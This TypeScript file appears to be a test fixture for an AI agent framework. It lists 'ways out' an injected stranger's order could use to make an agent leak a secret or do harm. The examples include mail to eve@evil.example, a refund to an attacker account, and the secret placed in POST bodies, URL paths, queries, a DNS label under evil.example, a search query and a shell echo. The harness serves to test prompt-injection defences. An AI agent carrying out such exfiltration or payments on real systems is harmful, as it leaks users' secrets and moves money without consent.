import type { AnyTool, JsonObject, Tool } from "@pollux/core";
import { defineTool } from "@pollux/core";
import { httpRequest, webFetch } from "@pollux/tools/http";
import { openApiTools } from "@pollux/tools/openapi";
import { searchTool } from "@pollux/tools/search";
import { shellTool } from "@pollux/tools/shell";
import { z } from "zod";
import { mailTool, type Town } from "./town.ts";

/** A way for a stranger to get data or cause an effect. */
export interface WayOut {
  readonly name: string;
  readonly tool: AnyTool;
  /** The stranger's order. */
  readonly args: JsonObject;
  /** How far it reaches. */
  readonly reach: "outside" | "lookup";
  /** It does harm without leaking data. */
  readonly isHarm?: true;
  /** Its tool needs approval anyway. */
  readonly needsApproval?: true;
}

const OPEN = { allowPrivate: true, ports: "any" } as const;

/** All ways out of a town. */
export async function waysOut(town: Town): Promise<readonly WayOut[]> {
  const refund = defineTool({
    name: "refund",
    description: "Pays money back.",
    input: z.object({ order: z.number(), account: z.string() }),
    effects: "once",
    reads: "trusted",
    run: (input) => (town.sink("refund", input), "paid"),
  });
  const comment = defineTool({
    name: "add_comment",
    description: "Adds a comment to a ticket.",
    input: z.object({ text: z.string() }),
    effects: "once",
    run: ({ text }) => (town.sink("comment", text), "added"),
  });
  const host = webFetch({
    ...OPEN,
    name: "open_host",
    lookup: (name) => {
      town.sink("name", name);
      return Promise.resolve([{ address: "127.0.0.1", family: 4 }]);
    },
  });
  const desk = await town.mcp("desk", [comment], { isPinned: true });
  return [
    {
      name: "a recipient",
      tool: mailTool(town),
      args: { to: "eve@evil.example", text: "I agree." },
      reach: "outside",
      isHarm: true,
    },
    { name: "a payment", tool: refund, args: { order: 1, account: "EVE1" }, reach: "outside", isHarm: true },
    {
      name: "a body",
      tool: httpRequest({ ...OPEN, name: "post", methods: ["GET", "POST"] }),
      args: { url: town.url("/in"), method: "POST", json: { text: "{secret}" } },
      reach: "outside",
      needsApproval: true,
    },
    {
      name: "an operation of an API",
      tool: operation(town),
      args: { text: "{secret}" },
      reach: "outside",
      needsApproval: true,
    },
    {
      name: "the path of an address",
      tool: webFetch({ ...OPEN, name: "open_page" }),
      args: { url: town.url("/in/{secret}") },
      reach: "lookup",
    },
    {
      name: "the query of an address",
      tool: httpRequest({ ...OPEN, name: "get" }),
      args: { url: town.url("/in?q={secret}") },
      reach: "lookup",
    },
    {
      name: "a label of a host",
      tool: host,
      args: { url: town.url("/", "{secret}.evil.example") },
      reach: "lookup",
    },
    {
      name: "a query",
      tool: searchTool({ name: "ask_web", search: (query) => (town.sink("search", query), []) }),
      args: { query: "{secret}" },
      reach: "lookup",
    },
    { name: "an argument of MCP", tool: desk.tools[0] as Tool, args: { text: "{secret}" }, reach: "outside" },
    {
      name: "a command",
      tool: shellTool({ cwd: town.folder, isolateProcesses: false }),
      args: { command: "echo {secret} >> sent.txt" },
      reach: "outside",
      needsApproval: true,
    },
  ];
}

function operation(town: Town): AnyTool {
  const body = { type: "object", properties: { text: { type: "string" } } };
  const { tools } = openApiTools(
    {
      openapi: "3.1.0",
      paths: {
        "/in": {
          post: {
            operationId: "add_review",
            requestBody: { content: { "application/json": { schema: body } } },
            responses: {},
          },
        },
      },
    },
    { baseUrl: town.url("") },
  );
  return tools[0] as AnyTool;
}
